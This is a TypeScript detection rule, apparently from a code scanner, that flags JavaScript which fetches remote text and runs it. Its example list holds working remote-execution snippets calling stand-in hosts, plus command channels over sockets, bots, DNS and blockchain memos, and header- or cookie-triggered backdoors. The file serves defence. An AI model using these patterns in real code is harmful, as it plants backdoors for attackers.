import { isAskedAtFixed, kindOf } from '../src/define/askers.js';
import { placeOf } from '../src/define/entrusted.js';
import { isQuoted } from '../src/define/given.js';
import { waysTo } from '../src/define/ways.js';
import { codeArguments, defineRule, step, stepsOf } from '../src/define.js';
import type { Call, FileContext, Label } from '../src/types.js';
import { channelOf, isPublicRecord } from '../src/vocabulary/clients.js';
import { isServed, MESSAGE } from '../src/vocabulary/served.js';

export default defineRule({
  meta: {
    summary: 'Runs what another machine answers',
    why: 'What is fetched at run time was never published, reviewed or locked. Browser loaders insert scripts from their own site and test runners evaluate pages they open; both do so without handing an answer to `eval`, `Function` or a shell.',
    behaviour: 'execution',
    messages: {
      loader: 'Fetches text from an address it is given with {source} and runs it with {sink}',
      code: 'Fetches text with {source} and runs it with {sink}',
      page: 'Runs in a page what the server of that page sends, with {sink}',
      worker: 'Fetches text with {source} and runs it in a worker',
      template: 'Puts what it fetched with {source} into code it runs with {sink}',
      engine: 'Fetches a template with {source}, and has {sink} run the code in it',
      command: 'Fetches a command with {source} and hands it to {sink}',
      orders: 'Fetches a command with {source} from an address fixed in its code, and hands it to {sink}',
      record: 'Hands {sink} a command out of a public record that it reads with {source}',
      channel: 'Does whatever comes over {source}, which it opens by itself, with {sink}',
      relayed: 'Hands {sink} a command that what another file fetched with {source} is part of',
      program: 'Starts a program that what it fetched with {source} names, with {sink}',
      packages: 'Installs packages that {source} names while it is being installed',
      named: 'Installs, unasked, a package whose name it fetched with {source}',
      served: 'Runs code out of {source} with {sink}',
      smuggled: 'Decodes code out of {source} and runs it with {sink}',
      ordered: 'Hands {source} as a command to {sink}',
    },
    bits: {
      loader: 6,
      code: 13.5,
      page: 2,
      worker: 2.5,
      template: 5,
      engine: 10,
      command: 12,
      orders: 13.5,
      record: 13.5,
      channel: 12,
      relayed: 4,
      program: 5,
      packages: 9,
      named: 13.5,
      served: 11.5,
      smuggled: 13.5,
      ordered: 11.5,
    },
  },
  examples: {
    flags: [
      {
        title: 'what a request holds is run, strictly',
        code: `const http = require('http');\nhttp.createServer((req, res) => {\n  let body = '';\n  req.on('data', part => { body += part; });\n  req.on('end', () => res.end(String(new Function('require', '"use strict";' + body)(require))));\n}).listen(8080);`,
      },
      {
        title: 'a response is evaluated',
        code: `require('https').get('https://stage.invalid', res => {\n  let body = '';\n  res.on('data', chunk => { body += chunk; });\n  res.on('end', () => eval(body));\n});`,
      },
      {
        title: 'what an error brings is, too',
        code: `const axios = require('axios');\naxios.get('https://stage.invalid').then(() => {}).catch(error => new Function(error.response.data)());`,
      },
      {
        title: 'another process of the same program is given it',
        code: `const { spawn } = require('child_process');\nfetch('https://stage.invalid').then(r => r.text()).then(text => spawn(process.execPath, ['-e', text], { detached: true }));`,
      },
      {
        title: 'a program and its words are what a host answers',
        code: `const { spawn } = require('child_process'), axios = require('axios');\nsetInterval(() => axios.get('https://orders.invalid/next').then(({ data }) => data.idle || spawn(data.program, data.words)), 60000);`,
      },
      {
        title: 'a line of a page is what runs',
        code: `const { exec } = require('child_process');\nfetch('https://orders.invalid/').then(r => r.json()).then(order => order.run && exec(order.run));`,
      },
      {
        title: 'it is an address of its own, which is imported',
        code: `fetch('https://stage.invalid').then(r => r.text()).then(text => import('data:text/javascript,' + text));`,
      },
      {
        title: 'the shell fetches it',
        code: `eval(require('child_process').execSync('curl -s https://stage.invalid/a.js').toString());`,
      },
      {
        title: 'a template that was fetched has code in it',
        code: `const ejs = require('ejs');\nsetTimeout(async () => ejs.render(await (await fetch('https://stage.invalid/page')).text(), { require, process }), 3000);`,
      },
      {
        title: 'an answer names the package that is installed',
        code: `const { execSync } = require('child_process');\nfetch('https://stage.invalid/next').then(r => r.json()).then(({ name }) => {\n  execSync('npm install --no-save ' + name);\n  require(name);\n});`,
      },
      {
        title: 'an application that is handed in gets a path that runs what it is asked',
        code: `module.exports = app => app.get('/status', (q, s) => s.send(require('child_process').execSync(q.query.c)));`,
      },
      {
        title: 'a promise of one is',
        code: `const axios = require('axios');\naxios.get('https://stage.invalid').then(r => new Function('require', r.data)(require));`,
      },
      {
        title: 'a server evaluates what it is asked',
        code: `const app = require('express')();\napp.get('/', (req, res) => res.send(String(eval(req.query.q))));`,
      },
      {
        title: 'a header holds code in hex',
        code: `const vm = require('vm');\nlet page = Buffer.alloc(4096);\nmodule.exports = (req, res, next) => {\n  String(req.headers['x-trace']).replace(/q((?:[0-9a-f]{2})+)y/gi, (all, data) => {\n    const bytes = Buffer.from(data, 'hex');\n    for (let i = 0; i < bytes.length; i++) page[i] = bytes[i];\n    vm.runInThisContext(page.toString())(module.exports, require);\n  });\n  next();\n};`,
      },
      {
        title: 'a cookie is a program in base64',
        code: `const app = require('express')();\napp.use((req, res, next) => {\n  const part = /sid=([\\w+/=]+)/.exec(req.headers.cookie);\n  if (part) new Function('res', Buffer.from(part[1], 'base64').toString())(res);\n  next();\n});`,
      },
      {
        title: 'a server runs the body of a request',
        code: `const http = require('http'), { exec } = require('child_process');\nhttp.createServer((req, res) => {\n  let body = '';\n  req.on('data', chunk => { body += chunk; });\n  req.on('end', () => exec(body));\n}).listen(8124);`,
      },
      {
        title: 'a handler that others will mount runs a header',
        code: `module.exports = (req, res, next) => {\n  if (req.headers['x-order']) require('child_process').exec(req.headers['x-order']);\n  next();\n};`,
      },
      {
        title: 'a socket gives orders',
        code: `const { exec } = require('child_process');\nconst socket = new WebSocket('wss://stage.invalid');\nsocket.onmessage = event => exec(event.data);`,
      },
      {
        title: 'another node is told to run it',
        code: `const { spawn } = require('child_process');\nfetch('https://stage.invalid').then(r => r.text()).then(text => spawn(process.execPath, ['-e', text], { detached: true }));`,
      },
      {
        title: 'a response becomes an address that is imported',
        code: `fetch('https://stage.invalid').then(r => r.text()).then(text => import('data:text/javascript,' + encodeURIComponent(text)));`,
      },
      {
        title: 'the constructor of asynchronous functions takes it',
        code: `const Make = Object.getPrototypeOf(async function () {}).constructor;\nfetch('https://stage.invalid').then(r => r.text()).then(text => new Make('require', text)(require));`,
      },
      {
        title: 'a page swaps its code for what its own server sends',
        code: `const address = 'ws://' + window.location.host + '/swap';\nconst socket = new WebSocket(address);\nsocket.onmessage = event => window.eval(JSON.parse(event.data).code);`,
      },
      {
        title: 'a command is fetched',
        code: `const { exec } = require('child_process');\nfetch('https://stage.invalid').then(r => r.text()).then(command => exec(command));`,
      },
      {
        title: 'what somebody noted in a chain is a command',
        code: `const { Connection, PublicKey } = require('@solana/web3.js'), { exec } = require('child_process');\nconst chain = new Connection('https://rpc.invalid');\nsetInterval(async () => {\n  const [last] = await chain.getSignaturesForAddress(new PublicKey('1'.repeat(32)), { limit: 1 });\n  exec(last.memo.replace(/^\\[\\d+\\] /, ''));\n}, 9000);`,
      },
      {
        title: 'a record of a name is one',
        code: `const dns = require('dns').promises, { execSync } = require('child_process');\n(async () => execSync((await dns.resolveTxt('task.stage.invalid')).flat().join('')))();`,
      },
      {
        title: 'a broker’s messages pick what is done with them',
        code: `const mqtt = require('mqtt'), { execSync } = require('child_process'), fs = require('fs');\nconst acts = { run: line => execSync(line), put: ({ path, text }) => fs.writeFileSync(path, text) };\nconst line = mqtt.connect('mqtts://broker.invalid');\nline.on('message', (topic, message) => {\n  const { act, of } = JSON.parse(message.toString());\n  acts[act]?.(of);\n});`,
      },
      {
        title: 'a message names a method of a class',
        code: `const io = require('socket.io-client'), cp = require('child_process');\nconst line = io('https://hub.invalid');\nclass Desk {\n  run(order) { cp.exec(order, (error, out) => line.emit('done', out)); }\n  list(path) { return require('fs').readdirSync(path); }\n}\nconst desk = new Desk();\nline.on('task', task => desk[task.act](task.of));`,
      },
      {
        title: 'a bot of its own does what it is written',
        code: `const { Telegraf } = require('telegraf'), { exec } = require('child_process');\nconst bot = new Telegraf('123456789:AAaaBBbbCCccDDddEEeeFFffGGggHHhhIIi');\nbot.on('text', chat => exec(chat.message.text, (error, out) => chat.reply(out)));`,
      },
    ],
    passes: [
      {
        title: 'a tool installs the newest of what it names itself',
        code: `const { execSync } = require('child_process');\nexports.update = async () => {\n  const { version } = await (await fetch('https://releases.invalid/latest.json')).json();\n  execSync('npm install -g swiftcut@' + version, { stdio: 'inherit' });\n};`,
      },
      {
        title: 'a page fills a template of its own server',
        code: `const _ = require('lodash');\nexports.show = (box, row) => fetch('/views/row.html').then(r => r.text()).then(text => { box.innerHTML = _.template(text)(row); });`,
      },
      {
        title: 'a template without code is fetched',
        code: `const mustache = require('mustache');\nsetTimeout(async () => console.log(mustache.render(await (await fetch('https://texts.invalid/hello')).text(), { name: 'a' })), 3000);`,
      },
      {
        title: 'a bot starts one fixed program when it is asked',
        code: `const { Telegraf } = require('telegraf'), { exec } = require('child_process');\nconst bot = new Telegraf(process.env.BOT_TOKEN);\nbot.command('deploy', chat => exec('git pull', () => chat.reply('done')));`,
      },
      {
        title: 'messages pick what is worked out of them',
        code: `const mqtt = require('mqtt');\nconst acts = { ping: () => 'pong', sum: list => list.reduce((a, b) => a + b, 0) };\nconst line = mqtt.connect('mqtts://broker.invalid');\nline.on('message', (topic, message) => {\n  const { act, of } = JSON.parse(message.toString());\n  line.publish('answers', String(acts[act]?.(of)));\n});`,
      },
      {
        title: 'a record of a name is compared',
        code: `const dns = require('dns').promises, { execFileSync } = require('child_process');\nexports.verify = async name => (await dns.resolveTxt(name)).flat().includes(execFileSync('git', ['rev-parse', 'HEAD']).toString());`,
      },
      {
        title: 'a test starts a server with a hole in it',
        files: {
          'package.json': `{"name":"a","version":"1.0.0","main":"index.js"}`,
          'index.js': `exports.scan = text => /eval/.test(text);`,
          'test/fixtures/server.js': `require('http').createServer((request, response) => response.end(eval(request.headers['x-code'])));`,
        },
      },
      {
        title: 'a server opens the file that it is asked for in an editor',
        code: `const http = require('http'), { spawn } = require('child_process');\nhttp.createServer((req, res) => {\n  spawn('code', ['-g', req.headers['x-file']]);\n}).listen(3000);`,
      },
      {
        title: 'a script of the package is told what was fetched',
        code: `const { spawn } = require('child_process');\nfetch('https://releases.invalid/latest').then(r => r.text()).then(version => spawn(process.execPath, [__dirname + '/install.js', version]));`,
      },
      {
        title: 'a program runs what its parent process sends',
        code: `process.on('message', ({ code }) => process.send(new Function(code)()));`,
      },
      {
        title: 'another process is told what was fetched in its arguments',
        code: `const { spawn } = require('child_process');\nfetch('https://releases.invalid/latest').then(r => r.text()).then(version => spawn(process.execPath, ['install.js', version]));`,
      },
      {
        title: 'another process is told what to ask for, in the code that it is given',
        code: `const https = require('https'), { spawn } = require('child_process');\nfunction ask(options) {\n  https.request(options, answer => { if (answer.statusCode > 300) ask({ ...options, path: answer.headers.location }); }).end();\n  spawn(process.argv[0], ['-e', "require('https').request(" + JSON.stringify(options) + ').end();']);\n}\nexports.ask = ask;`,
      },
      {
        title: 'a response is parsed',
        code: `fetch('https://api.invalid').then(r => r.json()).then(data => console.log(data));`,
      },
      {
        title: 'a response is written to a page',
        code: `fetch('/part.html').then(r => r.text()).then(html => { document.body.innerHTML = html; });`,
      },
      {
        title: 'a version that was fetched is part of a path',
        code: `const path = require('path'), { spawnSync } = require('child_process');\nfetch('https://releases.invalid/latest').then(r => r.text()).then(version => spawnSync(path.join(cache, version, 'setup.exe')));`,
      },
      {
        title: 'a response of another function is shown',
        code: `exports.show = () => fetch('/a').then(r => r.text()).then(alert);\nexports.run = text => new Function('"use strict"; return 1')(text);`,
      },
      {
        title: 'a timer asks again',
        code: `const poll = () => fetch('/state').then(r => r.json()).then(() => setTimeout(poll, 1000));`,
      },
    ],
  },
  file(context) {
    installs(context);
    fillsTemplates(context);
    const commands = new Set(context.calls('process'));
    for (const call of context.calls('execution', 'process')) {
      const isCommand = commands.has(call);
      for (const arg of isCommand ? commandArguments(context, call) : codeArguments(context, call)) {
        if ((call.name === 'import' && !holdsCode(context, arg)) || /^document\./.test(call.name)) continue;
        const isWritten = context.textsWithin(arg).some(text => /[^…]{12}/.test(text));
        const labels = context.labelsOf(arg).filter(one => one.kind === 'remote' && !(isWritten && isQuoted(one)));
        // A server that only tests start serves nobody.
        const told = labels
          .filter(({ detail }) => !(context.moment === 'test' && isServed(detail)))
          .slice(0, MOST)
          .map(label => ({ label, messageId: messageOf(context, call, arg, label, isCommand) }));
        // What a page may ask of its own server hides nothing that is asked of another.
        const { label, messageId } = told.find(one => one.messageId === 'code') ?? told[0] ?? {};
        if (!label || messageId === undefined) continue;
        context.report({
          messageId,
          data: { source: label.detail, sink: call.name },
          chain: [...stepsOf(label), step('sink', `runs it with ${call.name}`, context.file, call.node)],
        });
      }
    }
  },
});

/** Answers that may come to one place, of which so many are looked at. */
const MOST = 8;

/**
 * `npm install` with names that another machine gave: during an installation, or unasked from then on. Tools install the
 * plug-in that their user names, and the newest of what they name themselves.
 */
function installs(context: FileContext): void {
  if (context.moment === 'test') return;
  for (const call of context.calls('process')) {
    const [program, words] = call.args;
    if (!program) continue;
    const named = context.commandsOf(program, words).flatMap(({ program: manager, words: said }) => {
      if (!/^(?:npm|pnpm|yarn|bun|pip3?|npx)$/.test(manager)) return [];
      if (manager === 'npx') return said;
      return /^(?:i|install|add|global)$/.test(said[0] ?? '') ? said.slice(1) : [];
    });
    if (context.moment === 'install' ? named.length === 0 : !named.some(word => word.startsWith('…'))) continue;
    const label = [program, words]
      .flatMap(arg => (arg ? context.labelsOf(arg) : []))
      .find(({ kind, detail }) => kind === 'remote' && !isServed(detail));
    if (!label || !(context.moment === 'install' || waysTo(context, call.node).isUnasked)) continue;
    context.report({
      messageId: context.moment === 'install' ? 'packages' : 'named',
      data: { source: label.detail },
      chain: [...stepsOf(label), step('sink', `installs them with ${call.name}`, context.file, call.node)],
    });
  }
}

/** A template out of a page's own server is part of the page; one from an address in the code runs what that likes. */
function fillsTemplates(context: FileContext): void {
  for (const call of context.calls('template')) {
    const label = call.args[0] && context.labelsOf(call.args[0]).find(({ kind }) => kind === 'remote');
    if (!label || isServed(label.detail) || kindOf(context, call, label) !== 'code') continue;
    context.report({
      messageId: 'engine',
      data: { source: label.detail, sink: call.name },
      chain: [...stepsOf(label), step('sink', `fills it with ${call.name}`, context.file, call.node)],
    });
  }
}

function messageOf(
  context: FileContext,
  call: Call,
  arg: Call['node'],
  label: Label,
  isCommand: boolean,
): string | undefined {
  const { name, args } = call;
  const { detail, origin } = label;
  if (name === 'Worker') return 'worker';
  if (name === 'import') return 'code';
  if (context.namesOf(args[0] as Call['node']).some(one => /^process\.(?:execPath|argv0)$/.test(one))) return 'code';
  if (!isCommand)
    return isTemplate(context.textsOf(arg))
      ? 'template'
      : isServed(detail)
        ? servedAs(label)
        : kindOf(context, call, label);
  // `spawn` without a shell starts one program: an editor, a binary of the version that was asked for.
  const line =
    !/(?:\.|^)(?:spawn(?:Sync)?|execFile(?:Sync)?|fork|cross-spawn|nano-spawn|execa|execaSync|x)$/.test(name) ||
    arg !== args[0];
  // Words out of a request for a program that is fixed: `cmd /c code <file>` opens an editor.
  if (isServed(detail) && arg !== args[0]) return undefined;
  // What an API client of one file answers reaches many parameters of others, few of them for sure.
  if (line && isPublicRecord(detail)) return 'record';
  if (line && isOwnChannel(context, label)) return 'channel';
  if (line && origin.file !== context.file) return 'relayed';
  if (isServed(detail)) return line ? 'ordered' : undefined;
  // One that is told a program alone may look for a browser; who is told its words as well does what it is told.
  const isWhole = line || (args[1] !== undefined && context.labelsOf(args[1]).some(one => one.kind === 'remote'));
  return isWhole && isAskedAtFixed(context, label) ? 'orders' : line ? 'command' : 'program';
}

/** A playground is sent code as it is; who encodes it does not want it to be seen on its way. */
function servedAs({ through }: Label): 'served' | 'smuggled' {
  return through.some(({ says }) => says.startsWith('decodes ')) ? 'smuggled' : 'served';
}

/** A channel to a place, or by the name of a bot, that the code itself has. */
function isOwnChannel(context: FileContext, { detail, origin }: Label): boolean {
  const channel = channelOf(detail) ?? (detail === MESSAGE ? 'WebSocket' : undefined);
  return channel !== undefined && origin.file === context.file && placeOf(context, channel) !== undefined;
}

/** A line up to where code stands in it, for an interpreter or a shell, or for a shell to read. */
const CODE_FOLLOWS =
  /(?:^|[\s/\\"'])(?:(?:node|bun|deno|python[23]?|perl|ruby)(?:\.exe)?["']?\s(?:--no-[\w-]{1,30}\s)?(?:-e|-c|-p|-pe|--eval|eval)|(?:ba|z|da)?sh\s-\w{0,3}c|(?:powershell|pwsh)(?:\.exe)?\s(?:-\w{1,20}\s(?:\w{1,20}\s)?){0,3}-(?:e|enc|encodedcommand|c|command))\s["'`]{0,2}…|^echo\s["']?…["']?\s?\|[^…]{0,60}\b(?:(?:ba|z|da)?sh|node|python[23]?|powershell|pwsh)\b/i;

/**
 * The arguments that say what runs: the line or program, unless its beginning is fixed (`npm install <answer>` runs
 * npm), and the words of a program that runs what it is told.
 */
function commandArguments({ textsOf, textsWithin, namesOf }: FileContext, { args }: Call): Call['args'] {
  const [program, words] = args;
  if (!program) return [];
  // The node that runs this: its words are files and theirs, unless one says that code follows.
  if (namesOf(program).some(name => /^process\.(?:execPath|argv0|argv\.0)$/.test(name)))
    return words && textsWithin(words).some(word => /^(?:-e|-p|-pe|--eval|--print)$/.test(word)) ? [words] : [];
  const texts = textsOf(program);
  // `node -e …`: what another machine gave is the code itself.
  if (texts.some(text => CODE_FOLLOWS.test(text.slice(0, 2_000)))) return [program];
  // A path with a part that was fetched, a version say, is still a place the package chose.
  const fixed = texts.some(text => /^[^…]{2}/.test(text) || /[\\/]/.test(text));
  // `spawn(process.execPath, ['-e', code])`.
  if (words && namesOf(program).some(name => /^process\.(?:execPath|argv0)$/.test(name)))
    return textsWithin(words).some(text => /^(?:-e|--eval|-p|--print)$/.test(text)) ? [words] : [];
  if (!fixed) return [program];
  return words &&
    texts.some(text =>
      /^(?:.*[\\/])?(?:sh|bash|zsh|cmd|powershell|pwsh|node|bun|python3?|osascript)(?:\.exe)?$/i.test(text),
    )
    ? [words]
    : [];
}

/** Code with a blank filled in: `return function <name>() { … }`. The blank is seldom more than a name. */
function isTemplate(texts: readonly string[]): boolean {
  return texts.length > 0 && texts.every(text => /^[^…]{12}/.test(text.replace(AROUND, '')));
}

/** What is put around code that comes from elsewhere: how strict it is, and a function that hands it what it needs. */
const AROUND =
  /^[\s;!(]{0,20}(?:["']use strict["'][\s;!(]{0,20})?(?:(?:async )?function\b[^({]{0,60}\([^)]{0,200}\) ?\{|(?:async ?)?\([^)]{0,200}\) ?=> ?\{)?[\s;]{0,20}(?:["']use strict["'];?)?/;

/** An address that holds the code itself. */
function holdsCode({ textsOf }: FileContext, address: Call['node']): boolean {
  return textsOf(address).some(text => text.startsWith('data:'));
}
